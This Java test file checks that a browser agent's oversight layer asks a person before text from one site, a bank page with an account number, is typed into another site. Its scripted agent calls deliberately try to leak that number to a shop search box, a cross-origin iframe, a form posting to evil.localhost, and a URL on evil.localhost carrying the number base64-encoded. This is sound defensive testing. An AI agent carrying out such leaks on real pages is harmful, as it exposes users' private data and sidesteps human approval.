package dev.browsergrid.agents;

import static org.assertj.core.api.Assertions.assertThat;

import dev.browsergrid.agents.browser.PlaywrightComputer;
import dev.browsergrid.agents.oversight.ApprovalPolicy;
import dev.browsergrid.agents.oversight.Concern;
import dev.browsergrid.agents.oversight.Decision;
import dev.browsergrid.agents.oversight.Proposal;
import java.time.InstantSource;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

/// What one site shows goes to another only when a person says so.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(120)
class CrossingTest {
    private static final String NUMBER = "DE89 3704 0044 0532";

    private BrowserFixture fixture;
    private String bank;
    private String shop;

    @BeforeAll
    void start() throws Exception {
        fixture = new BrowserFixture();
        fixture.site().page("/bank", "<h1>Bank</h1><p>Your number is " + NUMBER + "</p><input aria-label=Note>");
        fixture.site().page("/shop", "<h1>Shop</h1><input aria-label=Search><input aria-label=More>");
        fixture.site()
                .page(
                        "/bank-with-frame",
                        "<script>self.origin = 'http://bank.localhost'</script><p>Number " + NUMBER
                                + "</p><iframe src=\"" + fixture.site().url("evil", "/frame") + "\"></iframe>");
        fixture.site()
                .page(
                        "/frame",
                        "<script>self.origin = 'http://bank.localhost'</script><input aria-label=Inner><p>Framed"
                                + " words of theirs</p>");
        fixture.site()
                .page(
                        "/sends-away",
                        "<p>Number " + NUMBER + "</p><form action=\""
                                + fixture.site().url("evil", "/take") + "\"><input aria-label=Given></form>");
        bank = fixture.site().url("bank", "/bank");
        shop = fixture.site().url("shop", "/shop");
    }

    @AfterAll
    void stop() {
        fixture.close();
    }

    @Test
    void a_text_of_another_site_is_typed_only_when_a_person_allows_that_very_text() throws Exception {
        ScriptedPeople people = new ScriptedPeople()
                .decides(proposal -> proposal.description().contains("Search")
                        ? new Decision.Approved(true)
                        : new Decision.Denied("not that one"));
        Trial trial = run(
                people,
                "go",
                bank,
                go(shop),
                "type {\"ref\":\"Search\",\"text\":\"my number: DE89370400440532\"}",
                "type {\"ref\":\"Search\",\"text\":\"mugs\"}",
                "type {\"ref\":\"More\",\"text\":\"Your number is\"}",
                "press {\"ref\":\"More\",\"keys\":\"Control+v\"}",
                go(fixture.site().url("evil", "/?d=ZGU4OTM3MDQwMDQ0MDUzMiAgICAg")));
        assertThat(codes(trial))
                .containsExactly("", "", "", "approval_denied", "approval_denied", "approval_denied", "");
        Proposal proposal = people.proposals().getFirst();
        assertThat(proposal.concern()).isEqualTo(Concern.DATA_CROSSING);
        assertThat(proposal.consequence()).isEqualTo("This takes text from bank.localhost to shop.localhost.");
        assertThat(proposal.description()).contains("which has “").contains("from bank.localhost");
        assertThat(proposal.stake().origin()).startsWith("http://shop.localhost:");
        assertThat(people.proposals()).hasSize(4);
    }

    @Test
    void frames_and_forms_that_send_elsewhere_are_other_sites_whatever_the_page_says() throws Exception {
        ScriptedPeople people = new ScriptedPeople().decides(_ -> new Decision.Denied(""));
        Trial trial = run(
                people,
                "go",
                fixture.site().url("bank", "/bank-with-frame"),
                "type {\"ref\":\"Inner\",\"text\":\"Framed words of theirs\"}",
                "fill_form {\"fields\":[{\"ref\":\"Inner\",\"value\":\"DE89 3704\"}]}",
                go(fixture.site().url("bank", "/sends-away")),
                "type {\"ref\":\"Given\",\"text\":\"" + NUMBER + "\"}");
        assertThat(codes(trial)).containsExactly("", "approval_denied", "", "approval_denied", "");
        assertThat(people.proposals())
                .extracting(Proposal::consequence)
                .containsOnly("This takes text from bank.localhost to evil.localhost.");
        String shown = trial.events().stream()
                .filter(AgentEvent.Observed.class::isInstance)
                .map(event -> ((AgentEvent.Observed) event).snapshot())
                .findFirst()
                .orElseThrow();
        assertThat(shown)
                .contains("\norigin: http://bank.localhost:")
                .containsPattern("- iframe \\[ref=\\w+] \\[origin=http://evil\\.localhost:\\d+]:");
    }

    @Test
    void what_the_user_gave_and_links_that_stand_there_are_not_asked_for_and_under_auto_nothing_is() throws Exception {
        ScriptedPeople people = new ScriptedPeople().decides(_ -> new Decision.Denied(""));
        String linked = fixture.site().url("evil", "/linked?code=abcdefgh12345678");
        fixture.site().page("/links", "<a href=\"" + linked + "\">On</a><p>abcdefgh12345678</p>");
        Trial trial = run(
                people,
                "type " + NUMBER + " into the search",
                bank,
                go(shop),
                "type {\"ref\":\"Search\",\"text\":\"" + NUMBER + "\"}",
                go(fixture.site().url("links", "/links")),
                go(linked));
        assertThat(codes(trial)).containsOnly("");
        assertThat(people.proposals()).isEmpty();

        ScriptedPeople never = new ScriptedPeople(ApprovalPolicy.AUTO);
        Trial alone = run(never, "go", bank, go(shop), "type {\"ref\":\"Search\",\"text\":\"" + NUMBER + "\"}");
        assertThat(codes(alone)).containsOnly("");
        assertThat(never.proposals()).isEmpty();
    }

    private static String go(String url) {
        return "navigate {\"url\":\"" + url + "\"}";
    }

    private static List<String> codes(Trial trial) {
        return trial.finished().stream()
                .map(AgentEvent.ActionFinished::errorCode)
                .toList();
    }

    /// Begins on a page and makes the calls one by one; the refs in them are names of fields.
    private Trial run(ScriptedPeople people, String task, String start, String... calls) throws Exception {
        ScriptedModel model = new ScriptedModel();
        for (String call : calls) {
            model.calls(request -> List.of(Newest.named(request, call)));
        }
        model.calls("done {\"answer\":\"ok\"}");
        Trial trial = new Trial();
        try (PlaywrightComputer computer = fixture.connectToBlankTab()) {
            computer.act(new ToolCall.Navigate(start), List.of(), new Cancellation());
            Outcome outcome = new Agent(model, ScriptedModel.TEXT, Trial.HASTY, InstantSource.system())
                    .run(Task.of(task), computer, trial.events()::add, trial.cancellation(), people);
            assertThat(Stream.of(outcome)).hasOnlyElementsOfType(Outcome.Completed.class);
        }
        return trial;
    }
}
